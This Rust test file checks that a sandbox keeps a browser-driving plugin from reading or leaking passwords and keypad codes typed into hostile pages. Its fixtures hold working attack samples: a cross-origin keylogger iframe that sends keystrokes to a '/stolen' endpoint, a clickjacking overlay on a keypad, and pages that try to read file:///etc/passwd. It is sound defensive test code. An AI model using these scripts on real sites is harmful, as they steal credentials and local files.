//! Reading secrets in a browser: from the page that they were typed into, from what that page sends and is answered, and by what is asked of it
//! while it lives.

use consentry_tests::echoing::{Answer, EchoSite, Sent};

use crate::suite::{Attack, Came, Coming, Defence, HONEST, Off, PASSWORD, Probe, Run, Verdict, World, probe};
use crate::switchless::BARE;

const SCRUB: &str = "what pages show is searched for what was typed, for the rest of the run";
const WITHHELD: &str = "a page on which a secret was pressed is neither read nor asked until it is left";
const DENIED: Verdict = Verdict::Refused("capability-denied", "single characters of a secret");
const NO_SECRET: Off = Off::By("the manifest calls the field an identifier", HONEST);

#[rustfmt::skip] // a table
pub const ATTACKS: &[Attack] = &[
    Attack { name: "opens-a-browser", tries: "opens a page in a browser and reads it", stopped_by: "capabilities are granted one by one, and its manifest does not ask for this one", verdict: Verdict::Refused("capability-denied", "capabilities = [\"browser\"]"), off: Off::By("the manifest asks for it", HONEST), run: Run::Story(opens) },
    Attack { name: "reads-a-page-that-mirrors", tries: "has the password typed into a page that copies it into texts and attributes, and reads them", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form; secret #password; sees .mirror; tell")) },
    Attack { name: "reads-where-a-page-went", tries: "has the password typed into a form that sends it in an address, and reads address and page", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form; secret #password; key Enter; sees .said; tell")) },
    Attack { name: "reads-what-a-page-is-answered", tries: "has the password typed into a page that sends it by script, and reads the answer", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form; secret #password; click #send; answer /echo")) },
    Attack { name: "reads-other-fields", tries: "has the password typed into a page that copies it into the values of other fields, and into their attributes", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form?how=fields; secret #password; sees .mirror; tell")) },
    Attack { name: "reads-what-is-read-aloud", tries: "has the password typed into a page that copies it where assistive technology reads: labels, descriptions, values, live regions", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form?how=aloud; secret #password; sees .mirror; tell")) },
    Attack { name: "reads-a-popup", tries: "has the password typed into a page that opens a window with it in its address", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form?how=popup; secret #password; click #send; popup; sees .said; tell")) },
    Attack { name: "reads-a-file-of-a-page", tries: "has the password typed into a page that makes a file of it, and reads that", stopped_by: SCRUB, verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| reads(world, defence, "go /form?how=file; secret #password; download #file")) },
    Attack { name: "asks-where-a-page-went", tries: "asks by patterns whether the address that a form was sent to has a password that begins with C", stopped_by: "patterns are held against addresses without secrets", verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| asks_addresses(world, defence, "go /form; secret #password; key Enter; sees .said; doubts url /said?word=C*")) },
    Attack { name: "asks-what-a-page-asked-for", tries: "asks by patterns whether a request of the page has a password that begins with C", stopped_by: "patterns are held against addresses without secrets", verdict: Verdict::Nothing, off: NO_SECRET, run: Run::Story(|world, defence| asks_addresses(world, defence, "go /form; secret #password; click #send; answers /echo?said=C*")) },
    Attack { name: "opens-a-file", tries: "goes to a page that shows files of the engine's machine and pages of the browser's own in frames, in windows and in its own place, and reads them", stopped_by: "the browser shows a site neither, and what is read lies in the declared origins", verdict: Verdict::Nothing, off: Off::Shown("the same browser shows that file to whoever starts it with its address", BARE), run: Run::Story(opens_files) },
    Attack { name: "asks-a-live-page", tries: "asks a page by selectors whether what was typed begins with C", stopped_by: "selectors that act on a live page ask for no value", verdict: Verdict::Refused("invalid-argument", "a live selector"), off: Off::By("the site writes the password where it names its elements", HONEST), run: Run::Story(asks) },
    Attack { name: "types-into-another-field", tries: "has the password typed into a search field, whose page shows what was searched for", stopped_by: "a secret goes into the field that its sink names", verdict: Verdict::Refused("capability-denied", "slot = \"field:#search\""), off: Off::By("the manifest declares it", HONEST), run: Run::Story(another_field) },
    Attack { name: "types-into-an-unknown-page", tries: "has the password typed into a page that no rule recognises", stopped_by: "a secret goes into pages that the manifest describes", verdict: Verdict::Refused("capability-denied", "no rule recognises this one"), off: Off::By("a rule recognises the page", HONEST), run: Run::Story(unknown_page) },
    Attack { name: "reads-a-keypad", tries: "has a code pressed on a keypad that marks its keys, and reads the page", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "tell")) },
    Attack { name: "asks-what-a-keypad-sent", tries: "has a code pressed on a keypad that sends each digit, and asks by patterns which were sent", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "answers /pressed?2")) },
    Attack { name: "waits-for-what-was-pressed", tries: "has a code pressed on a keypad that marks its keys, and waits for a mark", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "asks .pressed-2")) },
    Attack { name: "reads-a-popup-of-a-keypad", tries: "has a code pressed on a keypad that opens a window with a digit in its address, and reads that", stopped_by: WITHHELD, verdict: DENIED, off: NO_SECRET, run: Run::Story(|world, defence| presses(world, defence, "popup; tell")) },
    Attack { name: "takes-the-focus", tries: "has the password typed into a page with a frame of another origin, which takes the focus again and again", stopped_by: "the host types in one go with the look at what has the focus", verdict: Verdict::Nothing, off: Off::By("it is a key that is pressed, which goes to whoever has the focus", HONEST), run: Run::Story(takes_the_focus) },
    Attack { name: "covers-a-keypad", tries: "has a code pressed on a keypad that a frame of another origin comes over as soon as the pointer does", stopped_by: "the document is asked whether its key has heard the press; the first that it has not ends the run, and cuts all origins off", verdict: Verdict::Refused("source-unavailable", "took the press away"), off: Off::By("it is clicked, which nobody is asked about", HONEST), run: Run::Story(covers_a_keypad) },
    Attack { name: "has-a-form-sent-elsewhere", tries: "has the password typed into a form that is sent to another of its origins", stopped_by: "while a secret stands on a page, the page reaches the origins of its sinks", verdict: Verdict::Nothing, off: Off::By("a sink of the password is at that origin", HONEST), run: Run::Story(elsewhere) },
];

#[tokio::test(flavor = "multi_thread")]
async fn every_attack_in_a_browser_is_stopped_and_is_not_without_its_defence() {
    crate::suite::attacks(ATTACKS).await;
}

const SCRIPT: &str = "<script>
const field = document.querySelector('#password');
const how = new URLSearchParams(location.search).get('how');
const add = (name, attributes) => {
    const made = document.body.appendChild(document.createElement(name));
    for (const each in attributes) made.setAttribute(each, attributes[each]);
    return made;
};
const copies = {
    fields: said => {
        add('input', { class: 'mirror', value: said }).value = said;
        add('textarea', {}).value = said;
        add('input', { type: 'hidden', value: said });
        const select = add('select', {});
        select.append(new Option(said, said, true, true));
        add('datalist', {}).append(new Option('', said));
        add('button', { value: said });
    },
    aloud: said => {
        add('div', { class: 'mirror', role: 'textbox', 'aria-label': said, 'aria-valuetext': said, 'aria-description': said }).textContent = '.';
        add('div', { 'aria-live': 'assertive', style: 'position:absolute;left:-9999px' }).textContent = said;
        add('img', { alt: said });
        document.title = said;
    },
    file: said => {
        const file = URL.createObjectURL(new Blob(['said: ' + said]));
        add('a', { id: 'file', href: file, download: 'said.txt' }).textContent = 'a file';
    },
    popup: () => {},
};
field.addEventListener('input', () => {
    if (how in copies) { copies[how](field.value); return; }
    const mirror = document.createElement('p');
    mirror.className = 'mirror'; mirror.textContent = field.value; mirror.title = btoa(field.value);
    field.setAttribute('value', field.value); mirror.setAttribute('name', field.value);
    document.body.append(mirror);
});
document.querySelector('#send').addEventListener('click', () => {
    if (how === 'popup') { open('/said?word=' + encodeURIComponent(field.value)); return; }
    fetch('/echo?said=' + encodeURIComponent(field.value), { method: 'POST', body: field.value });
});</script>";

fn html(body: String) -> Answer {
    Answer { body: ("text/html; charset=utf-8", body), ..Answer::default() }
}

/// A site that shows whatever it is given.
fn careless(sent: &Sent) -> Answer {
    match sent.path.as_str() {
        "/form" | "/other" => html(format!(
            "<!DOCTYPE html><form id=connexion action=/said><input id=password name=word type=password><input id=search name=q><button>ok</button></form>\
             <button id=send>.</button>{SCRIPT}"
        )),
        "/pad" => html(PAD.to_owned()),
        "/files" => html(FILES.to_owned()),
        "/thieved" => html(THIEVED.to_owned()),
        "/covered" => html(format!("{PAD}{COVERED}")),
        "/thief" => html(THIEF.to_owned()),
        "/said" => html(format!("<!DOCTYPE html><p class=said>{} {PASSWORD}", sent.query)),
        "/echo" => Answer { body: ("application/json", format!("{{\"said\":\"{PASSWORD}\"}}")), ..Answer::default() },
        _ => html("<!DOCTYPE html><p>Hello.".to_owned()),
    }
}

const FIRST: &str = "[[field.sink]]\nrequest = \"POST {base}/login\"\nslot = \"form:motdepasse\"";

fn sink(slot: &str) -> String {
    format!("[[field.sink]]\npage = \"typed\"\nslot = \"{slot}\"\nrecipe = \"raw\"\nmax = 1\n{FIRST}")
}

fn page(path: &str) -> String {
    format!("[[page]]\nid = \"typed\"\nurl = \"{{base}}{path}\"\nrequires = [\"#password\"]\n")
}

fn browses(site: &str, aim: &str) -> Probe {
    with_browser(probe("browses", site).aim(aim), true)
}

fn with_browser(probe: Probe, condition: bool) -> Probe {
    probe.manifest(condition, "\"http\", \"prompt\"", "\"http\", \"prompt\", \"browser\"")
}

fn opens(world: &mut World, defence: Defence) -> Coming<'_> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let opens = probe("browses", &site.url).aim("go /form; tell");
        let ran = world.run(with_browser(opens, defence == Defence::Off)).await;
        let harm = ran.said().contains("id=\"connexion\"");
        ran.came(harm)
    })
}

fn reads<'w>(world: &'w mut World, defence: Defence, aim: &'static str) -> Coming<'w> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let browses =
            browses(&site.url, aim).manifest(true, FIRST, sink("field:#password")).declaring(true, page("/form"));
        came(world.run(browses.not_secret(defence == Defence::Off)).await)
    })
}

/// Marks and sends whatever is pressed.
const PAD: &str = "<!DOCTYPE html><div id=keys></div><p>.</p><script>
for (let digit = 0; digit < 10; digit++) {
    const key = document.querySelector('#keys').appendChild(document.createElement('button'));
    key.textContent = digit;
    key.addEventListener('click', () => {
        document.querySelector('p').classList.add('pressed-' + digit);
        fetch('/pressed?' + digit, { method: 'POST' });
        if (!globalThis.opened) globalThis.opened = open('/said?opened=' + digit);
    });
}
</script>";

fn presses<'w>(world: &'w mut World, defence: Defence, then: &'static str) -> Coming<'w> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let aim = format!("go /pad; keypad #keys button; waits network-idle ; {then}");
        let rule = "[[page]]\nid = \"typed\"\nurl = \"{base}/pad\"\nrequires = [\"#keys button\"]\n";
        let browses = browses(&site.url, &aim).password("271828");
        let browses = browses.manifest(true, FIRST, sink("keypad:#keys")).declaring(true, rule);
        let ran = world.run(browses.not_secret(defence == Defence::Off)).await;
        let harm =
            ["pressed-7", "/pressed?2 true", "asks true", "?opened=2"].iter().any(|each| ran.said().contains(each));
        ran.came(harm)
    })
}

fn asks_addresses<'w>(world: &'w mut World, defence: Defence, aim: &'static str) -> Coming<'w> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let browses =
            browses(&site.url, aim).manifest(true, FIRST, sink("field:#password")).declaring(true, page("/form"));
        let ran = world.run(browses.not_secret(defence == Defence::Off)).await;
        let harm = ran.said().contains("=C* true");
        ran.came(harm)
    })
}

/// Everything that a page can do to show one.
const FILES: &str =
    "<!DOCTYPE html><p class=there>.</p><iframe src=file:///etc/passwd></iframe><iframe src=chrome://version></iframe>
<object data=file:///etc/passwd></object><embed src=file:///etc/passwd><a id=link href=file:///etc/passwd>a file</a>
<button id=open onclick=\"window.open('file:///etc/passwd'); window.open('chrome://version')\">.</button>
<script>fetch('file:///etc/passwd').then(it => it.text()).then(text => document.body.append(text)).catch(() => {});
location = 'file:///etc/passwd';</script>";

/// What the browser shows to whoever starts it, without a site and without its own sandbox.
fn shown_by_the_browser_itself(address: &str) -> String {
    let mut browser = std::process::Command::new("/usr/lib/chromium/chromium-headless-shell");
    let shown = browser.args(["--no-sandbox", "--dump-dom", address]).output().unwrap();
    String::from_utf8_lossy(&shown.stdout).into_owned()
}

fn opens_files(world: &mut World, defence: Defence) -> Coming<'_> {
    Box::pin(async move {
        if defence == Defence::Off {
            let said = shown_by_the_browser_itself("file:///etc/passwd");
            return Came { told: BARE.to_owned(), harm: said.contains("root:"), said };
        }
        let site = EchoSite::start(careless).await.unwrap();
        let aim = "go /files; sees .there; click #open; click #link; tell";
        let ran = world.run(browses(&site.url, aim)).await;
        let harm = ran.said().contains("root:") || ran.said().contains("Chromium");
        ran.came(harm)
    })
}

fn came(ran: crate::suite::Ran) -> Came {
    let said = ran.said();
    let harm = said.contains(PASSWORD) || said.contains("Correct-Horse");
    ran.came(harm)
}

fn asks(world: &mut World, defence: Defence) -> Coming<'_> {
    let aim = defence.pick("asks [title^=Q29]", "asks p[name^=C]");
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let browses = browses(&site.url, &format!("go /form; secret #password; sees .mirror; {aim}"));
        let ran =
            world.run(browses.manifest(true, FIRST, sink("field:#password")).declaring(true, page("/form"))).await;
        let harm = ran.said().contains("asks true");
        ran.came(harm)
    })
}

fn another_field(world: &mut World, defence: Defence) -> Coming<'_> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let browses = browses(&site.url, "go /form; secret #search; key Enter; sees .said");
        let slot = defence.pick("field:#password", "field:#search");
        let ran = world.run(browses.manifest(true, FIRST, sink(slot)).declaring(true, page("/form"))).await;
        let harm = site.heard().iter().any(|request| request.contains("q=Correct"));
        ran.came(harm)
    })
}

fn unknown_page(world: &mut World, defence: Defence) -> Coming<'_> {
    Box::pin(async move {
        let site = EchoSite::start(careless).await.unwrap();
        let browses = browses(&site.url, "go /other; secret #password; key Enter; sees .said");
        let path = defence.pick("/form", "/other");
        let ran = world.run(browses.manifest(true, FIRST, sink("field:#password")).declaring(true, page(path))).await;
        let harm = site.heard().iter().any(|request| request.contains("word=Correct"));
        ran.came(harm)
    })
}

fn elsewhere(world: &mut World, defence: Defence) -> Coming<'_> {
    Box::pin(async move {
        let second = EchoSite::start(careless).await.unwrap();
        let site = EchoSite::start(|sent| match sent.query.strip_prefix("to=") {
            Some(second) => html(SENT_ELSEWHERE.replace("{second}", second)),
            None => careless(sent),
        });
        let site = site.await.unwrap();
        let browses =
            browses(&site.url, &format!("go /form?to={}; secret #password; key Enter; sees .said", second.url));
        let there = format!(
            "[[field.sink]]\nrequest = \"GET {}/said\"\nslot = \"query:word\"\nrecipe = \"raw\"\nmax = 1\n",
            second.url
        );
        let sinks = defence.pick(String::new(), there) + &sink("field:#password");
        let browses = with_second(browses, &second).manifest(true, FIRST, sinks);
        let ran = world.run(browses.declaring(true, page("/form"))).await;
        let harm = second.heard().iter().any(|request| request.contains("word=Correct"));
        ran.came(harm)
    })
}

const SENT_ELSEWHERE: &str =
    "<!DOCTYPE html><form action={second}/said><input id=password name=word type=password><button>ok</button></form>";

/// What is typed and pressed in a frame that takes what it can get.
const THIEF: &str = "<!DOCTYPE html><input id=own><script>
const says = what => fetch('/stolen?' + what);
own.oninput = () => says(own.value);
onkeydown = told => says(told.key);
onpointerdown = told => says(told.clientX);
setInterval(() => own.focus(), 0);
</script>";
const THIEVED: &str = "<!DOCTYPE html><input id=password type=password><iframe width=300 height=60></iframe><script>
password.oninput = () => password.classList.add('typed');
document.querySelector('iframe').src = location.search.slice('?to='.length) + '/thief';
</script>";
const COVERED: &str =
    "<iframe style='position:absolute;left:0;top:0;width:600px;height:300px;border:0;display:none'></iframe><script>
document.querySelector('iframe').src = location.search.slice('?to='.length) + '/thief';
onmousemove = () => { document.querySelector('iframe').style.display = 'block'; };
globalThis.opened = true;
</script>";

fn takes_the_focus(world: &mut World, defence: Defence) -> Coming<'_> {
    let acts = defence.pick("secret #password; sees .typed", "click #password; doubts selector #never; key Delete");
    Box::pin(async move {
        let (site, second) = (EchoSite::start(careless).await.unwrap(), EchoSite::start(careless).await.unwrap());
        let aim = format!("go /thieved?to={}; {acts}; waits network-idle ", second.url);
        // What it gets it may send: the password has a sink there, too.
        let there = format!(
            "[[field.sink]]\nrequest = \"GET {}/said\"\nslot = \"query:word\"\nrecipe = \"raw\"\nmax = 1\n",
            second.url
        );
        let browses =
            with_second(browses(&site.url, &aim), &second).manifest(true, FIRST, there + &sink("field:#password"));
        let ran = world.run(browses.declaring(true, page("/thieved"))).await;
        let harm = second.heard().iter().any(|request| request.contains("/stolen"));
        ran.came(harm)
    })
}

fn covers_a_keypad(world: &mut World, defence: Defence) -> Coming<'_> {
    let acts = defence.pick("keypad #keys button", "click #keys button:nth-child(3)");
    Box::pin(async move {
        let (site, second) = (EchoSite::start(careless).await.unwrap(), EchoSite::start(careless).await.unwrap());
        let aim = format!("go /covered?to={}; {acts}; waits network-idle ", second.url);
        let rule = "[[page]]\nid = \"typed\"\nurl = \"{base}/covered\"\nrequires = [\"#keys button\"]\n";
        let browses = with_second(browses(&site.url, &aim), &second).password("271828");
        let browses = browses.manifest(true, FIRST, sink("keypad:#keys")).declaring(true, rule);
        let ran = world.run(browses).await;
        let harm = second.heard().iter().any(|request| request.contains("/stolen"));
        ran.came(harm)
    })
}

fn with_second(probe: Probe, second: &EchoSite) -> Probe {
    probe.manifest(true, "origins = [\"{base}\"]", format!("origins = [\"{{base}}\", \"{}\"]", second.url))
}
